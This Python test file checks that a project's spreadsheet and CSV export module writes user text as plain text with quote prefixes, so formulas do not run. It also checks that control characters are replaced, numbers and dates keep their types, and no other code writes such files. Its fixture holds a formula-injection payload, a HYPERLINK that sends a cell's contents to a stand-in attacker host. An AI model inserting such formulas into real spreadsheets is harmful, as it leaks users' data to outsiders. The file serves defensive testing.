"""core.spreadsheets: every export writes user text as text (never a formula), survives stored
control characters, and keeps numbers and dates; and no export writes a file another way."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl

from qudao.core.spreadsheets import CsvFile, Spreadsheet, csv_text

FORMULA = '=HYPERLINK("http://evil.example/?d="&E2,"Click")'


def test_an_xlsx_holds_user_text_as_exact_string_cells_and_numbers_and_dates_as_such(settings):
    # given
    settings.TIME_ZONE = "Asia/Shanghai"
    workbook = Spreadsheet(write_only=True)
    sheet = workbook.sheet("Partners: [all]")
    texts = [FORMULA, "+86 25", "-1+2", "@SUM(A1)", "\tTAB", "#N/A", "普通文本", "地址\x0b第二行\x00", "\ud800"]

    # when
    sheet.append(texts)
    sheet.append([42, Decimal("-1234.50"), date(2026, 10, 5), datetime(2026, 10, 5, 1, 30, tzinfo=UTC), None, True])
    read = openpyxl.load_workbook(io.BytesIO(workbook.to_bytes()))

    # then: text cells are "s", exact, with Excel's quote prefix where a program would evaluate them
    sheet = read.worksheets[0]
    assert sheet.title == "Partners   all "
    first = list(sheet[1])
    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in first] == [
        (FORMULA, "s", True),
        ("+86 25", "s", True),
        ("-1+2", "s", True),
        ("@SUM(A1)", "s", True),
        ("\tTAB", "s", True),
        ("#N/A", "s", False),
        ("普通文本", "s", False),
        ("地址\ufffd第二行\ufffd", "s", False),
        ("\ufffd", "s", False),
    ]
    second = list(sheet[2])[:6]
    assert [(cell.value, cell.data_type) for cell in second] == [
        (42, "n"),
        (-1234.5, "n"),
        (datetime(2026, 10, 5), "d"),
        (datetime(2026, 10, 5, 9, 30), "d"),  # in the deployment's time zone
        (None, "n"),
        (True, "b"),
    ]


def test_a_csv_prefixes_formula_like_text_with_an_apostrophe_and_keeps_numbers(tmp_path):
    # given
    stream = io.StringIO()
    writer = CsvFile(stream)

    # when
    writer.append([FORMULA, "+86", "-5", "@x", "\rx", "ok", "a\x0bb", Decimal("-12.50"), -3, date(2026, 1, 2), None])

    # then
    assert next(csv.reader(io.StringIO(stream.getvalue()))) == [
        "'" + FORMULA,
        "'+86",
        "'-5",
        "'@x",
        "'\rx",
        "ok",
        "a\ufffdb",
        "-12.50",
        "-3",
        "2026-01-02",
        "",
    ]
    assert csv_text("a=b") == "a=b"


def test_no_export_writes_a_spreadsheet_or_a_csv_file_but_through_core_spreadsheets():
    # A new export cannot forget the rule: outside core.spreadsheets (writing) and core.tabular
    # (reading imports), no application code imports openpyxl or makes a csv writer.
    root = Path(__file__).resolve().parents[2]
    allowed = {root / "core" / "spreadsheets.py", root / "core" / "tabular.py"}
    offenders = []
    for path in root.rglob("*.py"):
        if path in allowed or "tests" in path.relative_to(root).parts:
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(r"^\s*(import openpyxl|from openpyxl)|csv\.(writer|DictWriter)\(", source, re.M):
            offenders.append(str(path.relative_to(root)))
    assert offenders == []
